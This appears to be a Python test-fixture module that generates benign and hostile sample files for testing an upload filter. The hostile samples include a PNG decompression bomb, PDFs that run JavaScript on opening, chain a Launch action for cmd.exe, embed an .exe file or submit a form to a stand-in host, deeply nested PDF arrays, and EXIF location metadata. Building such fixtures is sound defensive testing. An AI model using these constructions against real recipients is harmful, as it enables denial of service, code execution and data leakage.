"""Files as people send them, and as somebody hostile does; every one is built here, from nothing."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

SECRET_PLACE = "51.3382N 1.4208E, written by the camera"
ORIENTATION, DESCRIPTION = 0x0112, 0x010E


def png(size=(60, 40), mode="RGB", colour="navy", **options):
    return _saved(Image.new(mode, size, colour), "PNG", **options)


def jpeg(size=(60, 40), *, orientation=1):
    """A photograph that knows where it was taken."""
    exif = Image.Exif()
    exif[ORIENTATION], exif[DESCRIPTION] = orientation, SECRET_PLACE
    return _saved(Image.new("RGB", size, "navy"), "JPEG", exif=exif, comment=SECRET_PLACE)


def moving_png():
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    return _saved(frames[0], "PNG", save_all=True, append_images=frames[1:])


def _saved(picture, form, **options):
    picture.save(out := io.BytesIO(), form, **options)
    return out.getvalue()


def enormous_png(width=40_000, height=40_000):
    """A few kilobytes that would fill gigabytes: an honest head, and rows of nothing, compressed."""
    rows = zlib.compressobj(9)
    body = b"".join(rows.compress(b"\x00" * (width // 8 + 1)) for _ in range(height)) + rows.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def _chunk(name, body):
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def pdf(change=None, pages=1, **options):
    """A PDF of empty pages, the same bytes each time; `change` gets it before it is written."""
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
    if change:
        change(made)
    made.save(out := io.BytesIO(), **{"deterministic_id": True} | options)
    return out.getvalue()


def _action(kind, **more):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def pdf_with_script_on_opening():
    def change(made):
        made.Root.OpenAction = made.make_indirect(_action("JavaScript", JS="app.alert('hello')"))

    return pdf(change)


def pdf_with_script_deep_in_a_page(compressed=True):
    """The action lies within the page's own dictionary, in a compressed stream of objects."""

    def change(made):
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 9, 9],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://nhs.uk", Next=_action("Launch", F="cmd.exe")),
        )
        made.pages[0].obj.Annots = pikepdf.Array([link])

    mode = pikepdf.ObjectStreamMode
    return pdf(change, object_stream_mode=mode.generate if compressed else mode.disable)


def pdf_with_a_file_inside():
    return pdf(lambda made: made.attachments.update({"invoice.exe": b"MZ\x90"}))


def pdf_form(**form):
    def change(made):
        made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), **form)

    return pdf(change)


def pdf_that_submits_itself():
    def change(made):
        sends = _action("SubmitForm", F="https://elsewhere.example")
        button = made.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Btn, T="go", A=sends))
        made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([button]))

    return pdf(change)


def pdf_with_a_film():
    def change(made):
        made.pages[0].obj.Annots = pikepdf.Array(
            [pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])]
        )

    return pdf(change)


def locked_pdf(user="secret"):
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=user), deterministic_id=False)


def archive():
    with zipfile.ZipFile(out := io.BytesIO(), "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("run.exe", b"\x00" * 100_000)
    return out.getvalue()


def nested_pdf(depth=400):
    """Arrays within arrays within arrays."""
    return pdf(lambda made: setattr(made.Root, "Deep", pikepdf.Object.parse(b"[" * depth + b"]" * depth)))


def box(name, body=b""):
    return struct.pack(">I", 8 + len(body)) + name + body


def mp4(brand=b"isom"):
    return (
        box(b"ftyp", brand + b"\x00\x00\x02\x00" + b"isommp41")
        + box(b"moov", b"\x00" * 32)
        + box(b"mdat", b"\x01" * 64)
    )


def webm(kind=b"webm"):
    head = b"\x42\x82" + bytes([0x80 | len(kind)]) + kind
    clusters = b"\x1f\x43\xb6\x75\x81\x00"
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(head)]) + head + b"\x18\x53\x80\x67" + bytes([0x80 | 6]) + clusters


def mp3(frames=5):
    """Frames of silence at 128 kilobits and 44,100 hertz, each 417 bytes long, behind a tag."""
    return b"ID3\x04\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10 + (b"\xff\xfb\x90\x00" + b"\x00" * 413) * frames


def ogg(voice=b"OpusHead"):
    def page(body):
        return b"OggS\x00" + b"\x00" * 21 + bytes([1, len(body)]) + body

    return page(voice + b"\x01\x01") + page(b"sound")


def wav():
    body = (
        b"WAVE"
        + b"fmt "
        + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8)
        + b"data"
        + struct.pack("<I", 4)
        + b"\x80" * 4
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body
